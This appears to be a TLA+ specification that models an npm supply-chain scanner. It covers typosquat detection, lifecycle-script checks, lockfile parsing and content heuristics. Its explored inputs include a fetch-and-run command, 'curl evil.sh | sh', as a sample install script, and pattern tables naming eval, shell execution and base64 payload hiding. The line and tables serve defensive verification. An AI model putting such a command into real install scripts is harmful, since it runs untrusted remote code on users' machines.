       <<"c", "o", "o", "k", "i", "e", "-", "p", "a", "r", "s", "e", "r">>,
       <<"d", "o", "t", "e", "n", "v">>,
       <<"m", "o", "n", "g", "o", "o", "s", "e">>,
       <<"n", "o", "d", "e", "m", "o", "n">> >>

\* the dependency names a manifest may declare
DeclaredNames ==
    { <<"l", "o", "d", "-", "a", "s", "h">>,
      <<"l", "o", "d", "a", "s", "h">>,
      <<"c", "o", "m", "p", "l", "e", "t", "e", "l", "y", "-", "u", "n", "r", "e", "l", "a", "t", "e", "d", "-", "n", "a", "m", "e">>,
      <<"v", "u", "e", "x">>,
      <<"v", "u", "e", "j", "s">>,
      <<"r", "a", "e", "c", "t">> }

Min3(x, y, z) == Min(x, Min(y, z))

\* one row of the edit-distance table: cur holds columns 0..Len(cur)-1
RECURSIVE NextRow(_, _, _, _)
NextRow(c, b, prev, cur) ==
    IF Len(cur) = Len(b) + 1 THEN cur
    ELSE LET j == Len(cur)
             cost == IF b[j] = c THEN 0 ELSE 1
         IN  NextRow(c, b, prev,
                     Append(cur, Min3(prev[j + 1] + 1, cur[j] + 1, prev[j] + cost)))

RECURSIVE LevFrom(_, _, _, _)
LevFrom(a, b, i, prev) ==
    IF i > Len(a) THEN prev[Len(b) + 1]
    ELSE LevFrom(a, b, i + 1, NextRow(a[i], b, prev, <<i>>))

\* levenshtein.get(a, b): insertions, deletions and substitutions at unit cost
Levenshtein(a, b) == LevFrom(a, b, 1, [j \in 1..(Len(b) + 1) |-> j - 1])

\* a threshold that does not depend on the length of the popular name
TyposquatThresholdFlat(popular) == 2

\* dependencies.ts line 23
TyposquatThreshold(popular) == IF Len(popular) < 5 THEN 1 ELSE 2

NamesOf(entries) == [k \in 1..Len(entries) |-> entries[k].name]

RECURSIVE WithoutNames(_, _)
WithoutNames(names, seen) ==
    IF names = <<>> THEN <<>>
    ELSE IF Head(names) \in seen THEN WithoutNames(Tail(names), seen)
    ELSE <<Head(names)>> \o WithoutNames(Tail(names), seen)

\* Object.keys({...dependencies, ...devDependencies}): the names of the first
\* map in order, then the names only the second one has
AllDepNames(pkg) ==
    LET first == NamesOf(pkg.dependencies)
    IN  first \o WithoutNames(NamesOf(pkg.devDependencies),
                              {first[k] : k \in 1..Len(first)})

TyposquatFinding(depName, popular) ==
    [type |-> "Typosquatting", name |-> depName, file |-> "package.json",
     severity |-> "high", content |-> "", popular |-> popular]

\* dependencies.ts lines 17-34 for one declared name
RECURSIVE TyposquatsOf(_, _)
TyposquatsOf(depName, populars) ==
    IF populars = <<>> THEN <<>>
    ELSE LET popular == Head(populars)
             rest == TyposquatsOf(depName, Tail(populars))
         IN  IF depName = popular THEN rest
             ELSE IF Levenshtein(depName, popular) <= TyposquatThreshold(popular)
                 THEN <<TyposquatFinding(depName, popular)>> \o rest
             ELSE rest

\* dependencies.ts lines 9-37
RECURSIVE TyposquatsOfAll(_)
TyposquatsOfAll(names) ==
    IF names = <<>> THEN <<>>
    ELSE TyposquatsOf(Head(names), POPULAR_PACKAGES) \o TyposquatsOfAll(Tail(names))

checkTyposquatting(pkg) == TyposquatsOfAll(AllDepNames(pkg))

\* a list of script keys that misses install
dangerousScriptsShort == <<"preinstall", "postinstall">>

\* scanner.ts line 51
dangerousScripts == <<"preinstall", "postinstall", "install">>

LifecycleFinding(name, script) ==
    [type |-> "Lifecycle Script", name |-> name, file |-> "package.json",
     severity |-> "critical", content |-> script, popular |-> <<>>]

\* scanner.ts lines 50-64
RECURSIVE LifecycleFindings(_, _)
LifecycleFindings(scripts, names) ==
    IF names = <<>> THEN <<>>
    ELSE LET name == Head(names)
             rest == LifecycleFindings(scripts, Tail(names))
         IN  IF name \in DOMAIN scripts /\ scripts[name] /= ""
                 THEN <<LifecycleFinding(name, scripts[name])>> \o rest
                 ELSE rest

\* the manifests explored
ScriptKeys == {"preinstall", "postinstall", "install", "prepare"}

ScriptValues == {"", "curl evil.sh | sh"}

ScriptMaps ==
    UNION {[S -> ScriptValues] : S \in {T \in SUBSET ScriptKeys : Cardinality(T) <= MaxScripts}}

DepEntry(name) == [name |-> name, version |-> "1.0.0"]

\* the names its devDependencies may declare
DevDeclaredNames == {<<"r", "a", "e", "c", "t">>}

\* the maps of at most n entries: sequences of entries with distinct names
DepMaps(names, n) ==
    {m \in SeqsUpTo({DepEntry(d) : d \in names}, n) :
        \A a, b \in 1..Len(m) : a /= b => m[a].name /= m[b].name}

Manifest(parses, scripts, dependencies, devDependencies) ==
    [parses |-> parses, scripts |-> scripts, dependencies |-> dependencies,
     devDependencies |-> devDependencies]

Manifests ==
    {Manifest(TRUE, s, d, e) : s \in ScriptMaps, d \in DepMaps(DeclaredNames, MaxDeps),
                              e \in DepMaps(DevDeclaredNames, 1)}
    \cup {Manifest(FALSE, <<>>, <<>>, <<>>)}

NoManifest == Manifest(FALSE, <<>>, <<>>, <<>>)

\* scanner.ts lines 44-73: the file loop is at the root package.json
ScanManifest ==
    /\ mpc = "idle"
    /\ allFindings' =
          IF pkgJson.parses
              THEN allFindings
                   \o LifecycleFindings(pkgJson.scripts, dangerousScripts)
                   \o checkTyposquatting(pkgJson)
              ELSE allFindings                      \* line 72: invalid json
    /\ mpc' = "done"
    /\ UNCHANGED <<pkgJson, sevVars, repCallVars, dedupVars, unitVars>>
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars,
                   spc, depsToScan>>

(***************************************************************************)
(* deduplicate                                                             *)
(***************************************************************************)
Dependency(name, version) == [name |-> name, version |-> version]

\* the template string `${d.name}@${d.version}`
KeyOf(d) == d.name \o <<"@">> \o d.version

\* the keys of a Map in insertion order: the order of first occurrence
RECURSIVE DistinctKeys(_, _)
DistinctKeys(ds, seen) ==
    IF ds = <<>> THEN <<>>
    ELSE IF KeyOf(Head(ds)) \in seen THEN DistinctKeys(Tail(ds), seen)
    ELSE <<KeyOf(Head(ds))>> \o DistinctKeys(Tail(ds), seen \cup {KeyOf(Head(ds))})

\* lockfile.ts lines 152-156: Map.set keeps the position of a key's first
\* insertion and the value of its last one
deduplicate(ds) ==
    LET keys == DistinctKeys(ds, {})
        last(key) == CHOOSE i \in 1..Len(ds) :
                        /\ KeyOf(ds[i]) = key
                        /\ \A j \in 1..Len(ds) : KeyOf(ds[j]) = key => j <= i
    IN  [k \in 1..Len(keys) |-> ds[last(keys[k])]]

ExtractedNames == {<<"a">>, <<"a", "@", "1">>}

ExtractedVersions == {<<"1">>, <<"2">>, <<"1", "@", "2">>}

ExtractedLists ==
    SeqsUpTo({Dependency(n, v) : n \in ExtractedNames, v \in ExtractedVersions},
             MaxDedupLen)

\* a parser hands its extracted list to deduplicate
Deduplicate ==
    /\ dpc = "idle"
    /\ unique' = deduplicate(deps)
    /\ dpc' = "done"
    /\ UNCHANGED <<deps, sevVars, repCallVars, manifestVars, unitVars>>
    /\ UNCHANGED <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars, scanVars>>

(***************************************************************************)
(* Specifications                                                          *)
(***************************************************************************)
InitVulnVars ==
    /\ chunks = <<>>
    /\ ci = 0
    /\ vpc = "idle"
    /\ data = NoData
    /\ detailsMap = <<>>
    /\ allVulns = <<>>
    /\ posted = <<>>
    /\ chunkStatus = <<>>
    /\ detailLog = <<>>
    /\ queue = <<>>
    /\ detailRunning = {}

IdleSeverity ==
    /\ advisory = NoAdvisory
    /\ sevResult = Absent

IdleManifest ==
    /\ pkgJson = NoManifest
    /\ mpc = "none"

IdleDedup ==
    /\ deps = <<>>
    /\ unique = <<>>
    /\ dpc = "none"

IdleRepCall ==
    /\ pkgName = <<>>
    /\ rpc = "idle"
    /\ metaResponse = Pending
    /\ dlResponse = Pending
    /\ repResult = <<>>

InitRepVars ==
    /\ repMeta = 0
    /\ repDl = 0
    /\ repDone = 0
    /\ repFindings = 0

\* checkVulnerabilitiesBatch(packages) called on its own
InitVuln ==
    /\ packages \in PackageSizes
    /\ osv \in [Probe(packages) -> StubIdLists]
    /\ InitVulnVars
    /\ InitRepVars
    /\ spc = "none"
    /\ skipAudit = FALSE
    /\ packageJsonFound = FALSE
    /\ manifestOk = FALSE
    /\ manifestDeps = 0
    /\ lockDeps = NoLock
    /\ depsToScan = 0
    /\ allFindings = <<>>
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup
    /\ IdleUnits

NextVuln ==
    \/ CheckVulnerabilitiesBatch
    \/ BatchFailed
    \/ BatchAnswered
    \/ LimiterStartDetail
    \/ DetailFetched
    \/ DetailFailed
    \/ ChunkEmit

SpecVuln == InitVuln /\ [][NextVuln]_vars

\* a scan whose file loop has ended and whose audit phase is about to start
Init ==
    /\ skipAudit \in BOOLEAN
    /\ packageJsonFound \in BOOLEAN
    /\ manifestOk \in BOOLEAN
    /\ manifestDeps \in 0..MaxDirect
    /\ lockDeps \in {NoLock} \cup LockSizes
    /\ osv \in [Probe(DepsToScan(lockDeps, manifestOk, manifestDeps)) -> StubIdLists]
    /\ packages = 0
    /\ InitVulnVars
    /\ InitRepVars
    /\ spc = "files-done"
    /\ depsToScan = 0
    /\ allFindings = <<>>
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup
    /\ IdleUnits

Next ==
    \/ StartAudit
    \/ BatchFailed
    \/ BatchAnswered
    \/ LimiterStartDetail
    \/ DetailFetched
    \/ DetailFailed
    \/ ChunkEmit
    \/ LimiterStartRep
    \/ RepMetaFailed
    \/ RepMetaAnswered
    \/ RepDownloadsSettled
    \/ FinishAudit

Spec == Init /\ [][Next]_vars

\* a scan of a project that declares enough dependencies to fill the limiter
InitBurst ==
    /\ skipAudit = FALSE
    /\ packageJsonFound = TRUE
    /\ manifestOk = TRUE
    /\ manifestDeps \in {Concurrency, BurstDirect}
    /\ lockDeps \in {NoLock, 1}
    /\ osv \in [Probe(DepsToScan(lockDeps, manifestOk, manifestDeps)) -> {<<"A">>}]
    /\ packages = 0
    /\ InitVulnVars
    /\ InitRepVars
    /\ spc = "files-done"
    /\ depsToScan = 0
    /\ allFindings = <<>>
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup
    /\ IdleUnits

SpecBurst == InitBurst /\ [][Next]_vars

\* no scan and no call of checkVulnerabilitiesBatch
IdleScan ==
    /\ packages = 0
    /\ osv = <<>>
    /\ InitVulnVars
    /\ InitRepVars
    /\ spc = "none"
    /\ skipAudit = FALSE
    /\ packageJsonFound = FALSE
    /\ manifestOk = FALSE
    /\ manifestDeps = 0
    /\ lockDeps = NoLock
    /\ depsToScan = 0
    /\ allFindings = <<>>

\* everything outside one operation, and its state when nothing there runs
coreVars == <<vulnVars, detailLog, queue, detailRunning, repVars, inputVars, scanVars,
              sevVars, repCallVars, manifestVars, dedupVars>>

IdleCore ==
    /\ IdleScan
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup

outsideLock == <<coreVars, fallbackVars, contentVars, filesVars, cliVars, popularVars, auditVars, fixedInVars>>

IdleOutsideLock ==
    /\ IdleCore
    /\ IdleFallback
    /\ IdleContent
    /\ IdleFiles
    /\ IdleCli
    /\ IdlePopular
    /\ IdleAudit
    /\ IdleFixedIn

outsideFallback == <<coreVars, lockVars, contentVars, filesVars, cliVars, popularVars, auditVars, fixedInVars>>

IdleOutsideFallback ==
    /\ IdleCore
    /\ IdleLock
    /\ IdleContent
    /\ IdleFiles
    /\ IdleCli
    /\ IdlePopular
    /\ IdleAudit
    /\ IdleFixedIn

outsideContent == <<coreVars, lockVars, fallbackVars, filesVars, cliVars, popularVars, auditVars, fixedInVars>>

IdleOutsideContent ==
    /\ IdleCore
    /\ IdleLock
    /\ IdleFallback
    /\ IdleFiles
    /\ IdleCli
    /\ IdlePopular
    /\ IdleAudit
    /\ IdleFixedIn

outsideFiles == <<coreVars, lockVars, fallbackVars, contentVars, cliVars, popularVars, auditVars, fixedInVars>>

IdleOutsideFiles ==
    /\ IdleCore
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdleCli
    /\ IdlePopular
    /\ IdleAudit
    /\ IdleFixedIn

outsideCli == <<coreVars, lockVars, fallbackVars, contentVars, filesVars, popularVars, auditVars, fixedInVars>>

IdleOutsideCli ==
    /\ IdleCore
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdleFiles
    /\ IdlePopular
    /\ IdleAudit
    /\ IdleFixedIn

outsidePopular == <<coreVars, lockVars, fallbackVars, contentVars, filesVars, cliVars, auditVars, fixedInVars>>

IdleOutsidePopular ==
    /\ IdleCore
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdleFiles
    /\ IdleCli
    /\ IdleAudit
    /\ IdleFixedIn

outsideAudit == <<coreVars, lockVars, fallbackVars, contentVars, filesVars, cliVars, popularVars, fixedInVars>>

IdleOutsideAudit ==
    /\ IdleCore
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdleFiles
    /\ IdleCli
    /\ IdlePopular
    /\ IdleFixedIn

outsideFixedIn == <<coreVars, lockVars, fallbackVars, contentVars, filesVars, cliVars, popularVars, auditVars>>

IdleOutsideFixedIn ==
    /\ IdleCore
    /\ IdleLock
    /\ IdleFallback
    /\ IdleContent
    /\ IdleFiles
    /\ IdleCli
    /\ IdlePopular
    /\ IdleAudit

\* the severity derivation applied to any advisory
InitSeverity ==
    /\ advisory \in Advisories
    /\ sevResult = Absent
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleDedup
    /\ IdleScan
    /\ IdleUnits

SpecSeverity == InitSeverity /\ [][DeriveSeverity]_vars

\* one call of checkReputation with any name
InitReputation ==
    /\ pkgName \in ReputationNames
    /\ rpc = "idle"
    /\ metaResponse = Pending
    /\ dlResponse = Pending
    /\ repResult = <<>>
    /\ IdleSeverity
    /\ IdleManifest
    /\ IdleDedup
    /\ IdleScan
    /\ IdleUnits

NextReputation ==
    \/ CheckReputation
    \/ MetaSettled
    \/ DownloadsSettled

SpecReputation == InitReputation /\ [][NextReputation]_vars

\* the manifest step on any manifest
InitManifest ==
    /\ pkgJson \in Manifests
    /\ mpc = "idle"
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleDedup
    /\ IdleScan
    /\ IdleUnits

SpecManifest == InitManifest /\ [][ScanManifest]_vars

\* deduplicate on any extracted list
InitDedup ==
    /\ deps \in ExtractedLists
    /\ unique = <<>>
    /\ dpc = "idle"
    /\ IdleSeverity
    /\ IdleRepCall
    /\ IdleManifest
    /\ IdleScan
    /\ IdleUnits

SpecDedup == InitDedup /\ [][Deduplicate]_vars

(***************************************************************************)
(* parsePackageLock: the five lockfile formats                             *)
(***************************************************************************)
\* lockfile.ts lines 22, 53, 72, 106, 126: the file names, in the order tried
LockFormats == <<"package-lock.json", "yarn.lock", "pnpm-lock.yaml", "bun.lock", "deno.lock">>

\* one lockfile of the directory: whether readFile finds it, whether its
\* parser and the extraction loop run without throwing, whether the parsed
\* value passes the test the code puts before its return (yarn.lock: line 57,
\* pnpm-lock.yaml: line 77, bun.lock: lines 108 and 110; package-lock.json
\* and deno.lock have none), and the dependencies the loop extracts
LockFile(exists, wellFormed, recognized, entries) ==
    [exists |-> exists, wellFormed |-> wellFormed, recognized |-> recognized,
     entries |-> entries]

\* the formats whose return is under a test of the parsed value
Tested == {2, 3, 4}

ExtractedOnce == Dependency(<<"a">>, <<"1">>)

ExtractedTwice == Dependency(<<"b">>, <<"2">>)

LockEntries == {<<>>, <<ExtractedOnce>>, <<ExtractedTwice, ExtractedOnce, ExtractedTwice>>}

LockFilesAt(k) ==
    {LockFile(FALSE, FALSE, FALSE, <<>>), LockFile(TRUE, FALSE, FALSE, <<>>)}
    \cup {LockFile(TRUE, TRUE, TRUE, e) : e \in LockEntries}
    \cup (IF k \in Tested THEN {LockFile(TRUE, TRUE, FALSE, <<>>)} ELSE {})

LockResult(isNull, list) == [isNull |-> isNull, list |-> list]

\* one try block of parsePackageLock: readFile, parse, extract, and return
\* the deduplicated list; a throw, or a failed test, goes on to the next block
TryFormat(k) ==
    /\ lpc = "running"
    /\ lockTry = k
    /\ lockReads' = Append(lockReads, k)
    /\ LET f == lockFiles[k]
       IN  IF f.exists /\ f.wellFormed /\ (k \in Tested => f.recognized)
               THEN /\ lockResult' = LockResult(FALSE, deduplicate(f.entries))
                    /\ lpc' = "returned"
                    /\ UNCHANGED lockTry
               ELSE /\ lockTry' = k + 1
                    /\ UNCHANGED <<lpc, lockResult>>
    /\ UNCHANGED <<lockFiles, outsideLock>>

\* lines 21-49
TryPackageLock == TryFormat(1)

\* lines 52-68
TryYarnLock == TryFormat(2)

\* lines 71-102
TryPnpmLock == TryFormat(3)

\* lines 105-122
TryBunLock == TryFormat(4)

\* lines 125-147
TryDenoLock == TryFormat(5)

\* line 149
ReturnNull ==
    /\ lpc = "running"
    /\ lockTry = Len(LockFormats) + 1
    /\ lockResult' = LockResult(TRUE, <<>>)
    /\ lpc' = "returned"
    /\ UNCHANGED <<lockFiles, lockTry, lockReads, outsideLock>>

InitLock ==
    /\ lockFiles \in {fs \in [1..Len(LockFormats) -> UNION {LockFilesAt(k) : k \in 1..Len(LockFormats)}] :
                          \A k \in 1..Len(LockFormats) : fs[k] \in LockFilesAt(k)}
    /\ lpc = "running"
    /\ lockTry = 1
    /\ lockReads = <<>>
    /\ lockResult = LockResult(TRUE, <<>>)
    /\ IdleOutsideLock

NextLock ==
    \/ TryPackageLock
    \/ TryYarnLock
    \/ TryPnpmLock
    \/ TryBunLock
    \/ TryDenoLock
    \/ ReturnNull

SpecLock == InitLock /\ [][NextLock]_vars

(***************************************************************************)
(* The dependency list of the audit: lockfile, else the manifest           *)
(***************************************************************************)
\* an entry of a manifest's dependency map; a JSON value that is no string
\* (a number, an object) has isString FALSE
RangeEntry(name, version, isString) ==
    [name |-> name, version |-> version, isString |-> isString]

\* the declared ranges explored
DeclaredRanges ==
    { <<"1", ".", "2">>,
      <<"^", "1", ".", "2">>,
      <<"~", "1", ".", "2">>,
      <<">", "=", "1", ".", "2">>,
      <<"^", "1", " ", "|", "|", " ", "~", "2">>,
      <<"1", ".", "x">> }

FallbackNames == {<<"a">>, <<"b">>}

RangeEntries ==
    {RangeEntry(n, v, TRUE) : n \in FallbackNames, v \in DeclaredRanges}
    \cup {RangeEntry(n, <<>>, FALSE) : n \in FallbackNames}

RangeMaps(n) ==
    {m \in SeqsUpTo(RangeEntries, n) :
        \A a, b \in 1..Len(m) : a /= b => m[a].name /= m[b].name}

PkgFile(parses, dependencies, devDependencies) ==
    [parses |-> parses, dependencies |-> dependencies,
     devDependencies |-> devDependencies]

PkgFiles ==
    {PkgFile(TRUE, d, e) : d \in RangeMaps(MaxFallbackDeps), e \in RangeMaps(1)}
    \cup {PkgFile(FALSE, <<>>, <<>>)}

\* removes only a leading operator
StripLeadingRange(version) ==
    IF version /= <<>> /\ Head(version) \in {"^", "~"} THEN Tail(version) ELSE version

\* line 105: version.replace(/[\^~]/g, '')
StripRange(version) == SelectSeq(version, LAMBDA c : c \notin {"^", "~"})

\* the value { ...dependencies, ...devDependencies } holds for a name: the
\* one of devDependencies when both declare it
MergedEntry(pkg, name) ==
    LET inDev == {k \in 1..Len(pkg.devDependencies) : pkg.devDependencies[k].name = name}
        inDeps == {k \in 1..Len(pkg.dependencies) : pkg.dependencies[k].name = name}
    IN  IF inDev /= {} THEN pkg.devDependencies[CHOOSE k \in inDev : TRUE]
        ELSE pkg.dependencies[CHOOSE k \in inDeps : TRUE]

\* lines 100-108: the list is assigned only when the read, the parse and every
\* replace went through
ManifestDepsToScan(pkg) ==
    LET names == AllDepNames(pkg)
    IN  IF ~pkg.parses THEN <<>>
        ELSE IF \E k \in 1..Len(names) : ~MergedEntry(pkg, names[k]).isString THEN <<>>
        ELSE [k \in 1..Len(names) |->
                 Dependency(names[k], StripRange(MergedEntry(pkg, names[k]).version))]

\* lines 90-109: a truthy lockDeps is the list, otherwise the manifest's
ChooseDepsToScan ==
    /\ fpc = "idle"
    /\ depsList' = IF ~lockParsed.isNull THEN lockParsed.list
                   ELSE ManifestDepsToScan(pkgFile)
    /\ fpc' = "done"
    /\ UNCHANGED <<lockParsed, pkgFile, outsideFallback>>

InitFallback ==
    /\ lockParsed \in {LockResult(TRUE, <<>>), LockResult(FALSE, <<>>),
                       LockResult(FALSE, <<ExtractedOnce>>)}
    /\ pkgFile \in PkgFiles
    /\ depsList = <<>>
    /\ fpc = "idle"
    /\ IdleOutsideFallback

SpecFallback == InitFallback /\ [][ChooseDepsToScan]_vars

(***************************************************************************)
(* analyzeContent                                                          *)
(*                                                                         *)
(* A file text is a sequence of runs: a run is count consecutive lines,    *)
(* each of len characters of which blank are leading or trailing white     *)
(* space, each holding the same tokens.                                    *)
(***************************************************************************)
\* static-analysis.ts line 79
AstSizeLimit == 1024 * 1024

Run(count, len, blank, tokens) ==
    [count |-> count, len |-> len, blank |-> blank, tokens |-> tokens]

Text(lines, parses, obfuscated) ==
    [lines |-> lines, parses |-> parses, obfuscated |-> obfuscated]

\* the file names explored
FileNames == {"package.json", "index.js", "data.json"}

\* line 75: file.endsWith('.json')
EndsWithJson(name) == name \in {"package.json", "data.json"}

File(name) == [name |-> name, isJson |-> EndsWithJson(name)]

RECURSIVE LinesOf(_)
LinesOf(runs) == IF runs = <<>> THEN 0 ELSE Head(runs).count + LinesOf(Tail(runs))

RECURSIVE CharsOf(_)
CharsOf(runs) ==
    IF runs = <<>> THEN 0 ELSE Head(runs).count * Head(runs).len + CharsOf(Tail(runs))

\* the number of lines content.split('\n') gives
LineCount(text) == LinesOf(text.lines)

\* content.length: the characters of the lines and the newlines between them
ContentLength(text) ==
    IF text.lines = <<>> THEN 0 ELSE CharsOf(text.lines) + LineCount(text) - 1

NoLongLine == [lineIndex |-> 0, length |-> 0]

\* entropy.ts lines 17-26: the first line longer than the threshold
RECURSIVE FirstLongFrom(_, _)
FirstLongFrom(runs, before) ==
    IF runs = <<>> THEN NoLongLine
    ELSE IF Head(runs).len > LongLineThreshold
        THEN [lineIndex |-> before + 1, length |-> Head(runs).len]
    ELSE FirstLongFrom(Tail(runs), before + Head(runs).count)

hasLongLines(text) == FirstLongFrom(text.lines, 0)

ContentFinding(type, name, f, line, severity, snippet) ==
    [type |-> type, name |-> name, file |-> f.name, line |-> line,
     severity |-> severity, content |-> snippet]

\* the content of a Massive Line Length finding: `Line length: ${length} chars`
LineLengthText(length) == [kind |-> "Line length", line |-> 0, length |-> length]

\* a line of the text, trimmed and cut to cap characters (0: not cut)
Snippet(line, r, cap) ==
    [kind |-> "snippet", line |-> line,
     length |-> IF cap > 0 THEN Min(r.len - r.blank, cap) ELSE r.len - r.blank]

\* lines 82-90 and 254-262
MassiveLineLength(longLine, f) ==
    ContentFinding("Heuristic", "Massive Line Length", f, longLine.lineIndex, "high",
                   LineLengthText(longLine.length))

\* lines 267-275
HighEntropy(f) ==
    ContentFinding("Heuristic", "High Entropy", f, 0, "medium",
                   [kind |-> "File content appears random/encrypted", line |-> 0, length |-> 0])

\* the visitors of lines 102-248: the finding a construct of the text yields
AstRules ==
    [t \in {"eval(", "new Function(", "child_process.exec(", "fs.readFile(", "http.get(",
            "Buffer.from(x,'base64')", "process.env", "'10.0.0.1'", "'http://x'"} |->
        CASE t = "eval(" -> <<"Dynamic Execution", "high">>
          [] t = "new Function(" -> <<"Dynamic Execution", "high">>
          [] t = "child_process.exec(" -> <<"Shell Execution", "medium">>
          [] t = "fs.readFile(" -> <<"File System Access", "medium">>
          [] t = "http.get(" -> <<"Network Access", "medium">>
          [] t = "Buffer.from(x,'base64')" -> <<"Base64 Decoding", "medium">>
          [] t = "process.env" -> <<"Environment Access", "low">>
          [] t = "'10.0.0.1'" -> <<"Suspicious IP", "medium">>
          [] t = "'http://x'" -> <<"Suspicious URL", "medium">>]

RECURSIVE AstOfTokens(_, _, _, _)
AstOfTokens(tokens, line, r, f) ==
    IF tokens = <<>> THEN <<>>
    ELSE (IF Head(tokens) \in DOMAIN AstRules
              THEN <<ContentFinding("AST", AstRules[Head(tokens)][1], f, line,
                                    AstRules[Head(tokens)][2], Snippet(line, r, 0))>>
              ELSE <<>>)
         \o AstOfTokens(Tail(tokens), line, r, f)

RECURSIVE AstOfRun(_, _, _, _)
AstOfRun(r, k, before, f) ==
    IF k > r.count \/ r.tokens = <<>> THEN <<>>
    ELSE AstOfTokens(r.tokens, before + k, r, f) \o AstOfRun(r, k + 1, before, f)

\* the traversal of lines 102-248, in the order of the text
RECURSIVE AstFindings(_, _, _)
AstFindings(runs, before, f) ==
    IF runs = <<>> THEN <<>>
    ELSE AstOfRun(Head(runs), 1, before, f)
         \o AstFindings(Tail(runs), before + Head(runs).count, f)

\* an analysis that a parse error ends: the heuristics are not reached
analyzeContentEndingOnParseError(text, f) ==
    LET longLine == hasLongLines(text)
        long == IF longLine /= NoLongLine THEN <<MassiveLineLength(longLine, f)>> ELSE <<>>
    IN  IF f.isJson THEN [findings |-> <<>>, astRan |-> FALSE]
        ELSE IF ContentLength(text) > AstSizeLimit
            THEN [findings |-> long, astRan |-> FALSE]
        ELSE IF ~text.parses THEN [findings |-> <<>>, astRan |-> TRUE]
        ELSE [findings |->
                  AstFindings(text.lines, 0, f)
                  \o long
                  \o (IF text.obfuscated THEN <<HighEntropy(f)>> ELSE <<>>),
              astRan |-> TRUE]

\* lines 72-279: the findings, and whether parse() was called
analyzeContent(text, f) ==
    LET longLine == hasLongLines(text)
        long == IF longLine /= NoLongLine THEN <<MassiveLineLength(longLine, f)>> ELSE <<>>
    IN  IF f.isJson THEN [findings |-> <<>>, astRan |-> FALSE]            \* line 77
        ELSE IF ContentLength(text) > AstSizeLimit
            THEN [findings |-> long, astRan |-> FALSE]                    \* lines 79-93
        ELSE [findings |->
                  (IF text.parses THEN AstFindings(text.lines, 0, f) ELSE <<>>)
                  \o long
                  \o (IF text.obfuscated THEN <<HighEntropy(f)>> ELSE <<>>),
              astRan |-> TRUE]

AnalyzeContent ==
    /\ cpc = "idle"
    /\ findings' = analyzeContent(content, file).findings
    /\ astRan' = analyzeContent(content, file).astRan
    /\ cpc' = "done"
    /\ UNCHANGED <<content, file, outsideContent>>

\* the runs explored: short lines with and without a flagged construct, lines
\* at and over the threshold, and runs that alone exceed the size limit
SizedRuns ==
    { Run(1, 20, 0, <<>>), Run(1, 20, 2, <<"eval(">>),
      Run(1, LongLineThreshold, 0, <<>>), Run(1, LongLineThreshold + 1, 0, <<>>),
      Run(1, 2 * LongLineThreshold, 0, <<>>),
      Run(1100, LongLineThreshold, 0, <<>>), Run(1, AstSizeLimit + 1, 0, <<>>) }

InitContent ==
    /\ content \in {Text(l, p, o) : l \in SeqsUpTo(SizedRuns, MaxRuns),
                                    p \in BOOLEAN, o \in BOOLEAN}
    /\ file \in {File("index.js"), File("data.json")}
    /\ findings = <<>>
    /\ astRan = FALSE
    /\ cpc = "idle"
    /\ IdleOutsideContent

SpecContent == InitContent /\ [][AnalyzeContent]_vars

(***************************************************************************)
(* analyzeContent of part_001: the pattern rules                           *)
(*                                                                         *)
(* The tokens of a line stand for pieces of text separated by "; ".        *)
(***************************************************************************)
Pattern(name, severity, description) ==
    [name |-> name, severity |-> severity, description |-> description]

\* part_000 lines 8-39, in the order of the table
PATTERNS ==
    << Pattern("Dynamic Execution", "high", "Executes arbitrary code strings."),
       Pattern("Base64 Decoding", "medium", "Often used to hide payloads."),
       Pattern("Suspicious Network", "high", "Network call with decoded/suspicious params."),
       Pattern("Hex Obfuscation", "medium", "Hex-encoded strings used for obfuscation."),
       Pattern("Shell Execution", "medium", "Executes system commands.") >>

PatternTokens ==
    {"x = 1", "eval(", "atob(", "Buffer.from(x,'base64')", "fetch(token", "\\x41\\x42",
     "child_process.exec("}

\* the matches a rule's regex finds inside one token, for the alternatives
\* that have no .* in them
MatchesIn(rule, token) ==
    CASE rule.name = "Dynamic Execution" -> IF token = "eval(" THEN 1 ELSE 0
      [] rule.name = "Base64 Decoding" -> IF token = "atob(" THEN 1 ELSE 0
      [] rule.name = "Hex Obfuscation" -> IF token = "\\x41\\x42" THEN 2 ELSE 0
      [] rule.name = "Shell Execution" -> IF token = "child_process.exec(" THEN 2 ELSE 0
      [] OTHER -> 0

\* the alternatives with a greedy .*: the token at which such a match starts
\* (Buffer.from( of line 17, fetch( of line 23) ...
StartsGreedy(rule, token) ==
    \/ rule.name = "Base64 Decoding" /\ token = "Buffer.from(x,'base64')"
    \/ rule.name = "Suspicious Network" /\ token = "fetch(token"

\* ... and the tokens that hold what the match must end with ('base64') of
\* line 17; atob, Buffer, token, api or model of line 23)
EndsGreedy(rule, token) ==
    \/ rule.name = "Base64 Decoding" /\ token = "Buffer.from(x,'base64')"
    \/ rule.name = "Suspicious Network"
          /\ token \in {"fetch(token", "atob(", "Buffer.from(x,'base64')"}

\* line 28: the successive exec() calls on one line, left to right; a greedy
\* match runs to the last token of the line that can end it
RECURSIVE MatchesInLine(_, _)
MatchesInLine(rule, tokens) ==
    IF tokens = <<>> THEN 0
    ELSE LET ends == {k \in 1..Len(tokens) : EndsGreedy(rule, tokens[k])}
         IN  IF StartsGreedy(rule, Head(tokens)) /\ ends /= {}
                 THEN LET last == CHOOSE k \in ends : \A j \in ends : j <= k
                      IN  1 + MatchesInLine(rule, SubSeq(tokens, last + 1, Len(tokens)))
                 ELSE MatchesIn(rule, Head(tokens)) + MatchesInLine(rule, Tail(tokens))

PatternFinding(rule, f, line, snippet) ==
    [type |-> "Pattern", name |-> rule.name, file |-> f.name, line |-> line,
     severity |-> rule.severity, content |-> snippet,
     description |-> rule.description]

Repeat(n, f) == [k \in 1..n |-> f]

\* a line index that counts the newlines before the match and adds nothing
PatternLineFromZero(before, k) == before + k - 1

